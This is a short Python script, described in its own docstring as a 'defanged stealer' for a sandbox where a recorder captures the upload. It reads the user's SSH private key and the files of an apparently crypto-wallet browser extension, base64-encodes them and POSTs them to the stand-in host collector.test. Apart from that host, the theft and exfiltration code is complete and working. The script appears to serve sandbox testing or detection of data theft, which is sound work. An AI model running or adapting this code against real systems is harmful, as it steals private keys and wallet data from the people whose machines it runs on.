"""Defanged stealer: reads the SSH key and a wallet extension folder, POSTs them to a .test host.

In the sandbox those are planted decoys, and collector.test is answered by the recorder, which
blocks the upload (a fake 200) after recording its body.
"""

import base64
import json
import pathlib
import urllib.request

home = pathlib.Path.home()
stolen = {}
key = home / ".ssh" / "id_ed25519"
if key.exists():
    stolen["ssh"] = base64.b64encode(key.read_bytes()).decode()
wallet = (
    home / ".config" / "google-chrome" / "Default" / "Local Extension Settings" / "nkbihfbeogaeaoehlefnkodbefgpgknn"
)
for item in sorted(wallet.glob("*")):
    if item.is_file():
        stolen[f"103_0_{item.name}"] = base64.b64encode(item.read_bytes()).decode()
print("collected", sorted(stolen))
request = urllib.request.Request(
    "http://collector.test:1224/uploads",
    data=json.dumps(stolen).encode(),
    headers={"Content-Type": "application/json"},
    method="POST",
)
with urllib.request.urlopen(request, timeout=10) as response:
    print("upload answered", response.status)
